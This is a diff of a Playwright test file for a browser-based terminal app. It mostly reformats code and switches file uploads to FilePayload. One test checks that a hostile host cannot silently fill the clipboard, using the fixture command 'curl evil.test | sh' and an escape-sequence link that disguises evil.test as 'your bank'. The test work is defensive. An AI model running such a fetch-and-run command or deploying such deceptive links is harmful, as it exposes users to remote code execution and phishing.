@@ -5,7 +5,7 @@ import re
 from collections.abc import AsyncIterator
 
 import pytest
-from playwright.async_api import Locator, Page, expect
+from playwright.async_api import FilePayload, Locator, Page, expect
 from tests.support.bundle import built
 from tests.support.chromium import is_for_everybody
 from tests.support.terminalpage import ORIGIN, SLOW, World, machine, terminal_page
@@ -228,7 +228,8 @@ async def test_tabs_and_splits_by_keys_and_a_reload_offers_them_again(shown: tup
     assert page.url == f"{ORIGIN}/terminal/web-1/deploy"
     await page.keyboard.type("size\n")
     await says(
-        page, f"size {(await page.locator('.pane-head .cells').first.text_content() or '').replace(TIMES, 'x')}"
+        page,
+        f"size {(await page.locator('.pane-head .cells').first.text_content() or '').replace(TIMES, 'x')}",
     )
     page.once("dialog", lambda dialog: dialog.accept())  # the browser asks before live shells are lost
     await page.reload()
@@ -289,7 +290,9 @@ async def test_a_hostile_host_gets_nothing_but_a_question(shown: tuple[Page, Wor
     await expect(page.get_by_role("heading", name="Let web-1 fill your clipboard?")).to_be_visible()
     await expect(page.locator(".preview")).to_have_text("curl evil.test | sh")
     await page.get_by_role("button", name="Not in this terminal").click()
-    await prints(page, b"\x1b[2J\x1b[H", offer, b"\x1b]8;;https://bank.test@evil.test/\x07your bank\x1b]8;;\x07\r\n")
+    await prints(
+        page, b"\x1b[2J\x1b[H", offer, b"\x1b]8;;https://bank.test@evil.test/\x07your bank\x1b]8;;\x07\r\n"
+    )
     await says(page, "your bank")
     await expect(page.get_by_role("dialog")).to_have_count(0)
     assert (await page.evaluate("navigator.clipboard.readText()")).startswith("raw ")  # what was pasted last
@@ -309,9 +312,9 @@ async def test_files_go_up_and_down_and_none_is_replaced_unasked(shown: tuple[Pa
     await expect(page.get_by_role("button", name="notes.txt 12 B")).to_be_visible()
     await is_for_everybody(page)
     upload = page.locator("aside input[type=file]")
-    await upload.set_input_files([{"name": "new.bin", "mimeType": "", "buffer": b"\0" * 2_000_000}])
+    await upload.set_input_files(FilePayload(name="new.bin", mimeType="", buffer=b"\0" * 2_000_000))
     await expect(page.get_by_role("button", name="new.bin 2.0 MB")).to_be_visible()
-    await upload.set_input_files([{"name": "notes.txt", "mimeType": "", "buffer": b"other"}])
+    await upload.set_input_files(FilePayload(name="notes.txt", mimeType="", buffer=b"other"))
     await expect(page.get_by_role("button", name="Keep it")).to_be_focused()
     await page.get_by_role("button", name="Keep it").click()
     await expect(page.locator(".transfers .stopped")).to_have_count(1)
